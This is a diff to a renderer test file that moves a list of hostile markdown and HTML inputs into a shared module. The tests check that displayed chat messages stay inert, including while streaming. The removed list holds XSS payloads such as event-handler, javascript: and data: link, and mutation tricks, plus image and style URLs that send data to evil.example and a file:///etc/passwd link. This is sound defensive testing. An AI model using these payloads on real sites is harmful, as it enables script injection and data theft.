@@ -8,6 +8,7 @@ import { Markdown } from '../../../src/renderer/features/conversation/Markdown';
 import { QuestionText } from '../../../src/renderer/features/conversation/QuestionText';
 import { titleNow } from '../../../src/renderer/features/runs/use-runs';
 import { ThreadActionsProvider } from '../../../src/renderer/ui';
+import { HOSTILE_MARKUP } from '../../support/hostile-markup';
 import { codeCall } from '../../support/rows';
 import { noActions } from '../no-actions';
 
@@ -26,29 +27,6 @@ const shownText = (text: string, live = false) => (
 );
 const show = (text: string) => render(shownText(text));
 
-const HOSTILE = [
-  '![" onerror=alert(1)](x)',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
-  '[x](javascript:alert(1))',
-  '[x](java&#115;cript:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](data:text/html,<script>alert(1)</script>)',
-  '![](https://evil.example/?secret=1)',
-  '![a][b]\n\n[b]: https://evil.example/x.png',
-  '<style>body{background:url(https://evil.example)}</style>',
-  '<link rel=prefetch href=https://evil.example>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href=https://evil.example>',
-  '<form id=location name=cookie><input name=body></form>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '`<script>alert(1)</script>`',
-  '```html\n<script>alert(1)</script>\n```',
-  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <b onclick=alert(1)>c</b> |',
-  '[x](file:///etc/passwd) [x](smb://host/share) [x](ms-msdt:/id) [x](assay://x)',
-];
-
 /** Nothing that is shown acts or loads. */
 function expectInert(shown: HTMLElement): void {
   const active = 'img, script, iframe, svg:not([class*="lucide"]), style, link, meta, base, form, object, embed, math';
@@ -62,14 +40,14 @@ function expectInert(shown: HTMLElement): void {
 }
 
 describe('text of a message', () => {
-  it.each(HOSTILE)('is only read: %s', (text) => {
+  it.each(HOSTILE_MARKUP)('is only read: %s', (text) => {
     show(text);
     const shown = screen.getByTestId('shown');
     expect(shown.textContent).not.toBe('');
     expectInert(shown);
   });
 
-  it.each(HOSTILE)('is only read at every moment while it is written: %s', (text) => {
+  it.each(HOSTILE_MARKUP)('is only read at every moment while it is written: %s', (text) => {
     const { rerender } = show('');
     for (let length = 1; length <= text.length; length += 1) {
       rerender(shownText(text.slice(0, length), true));
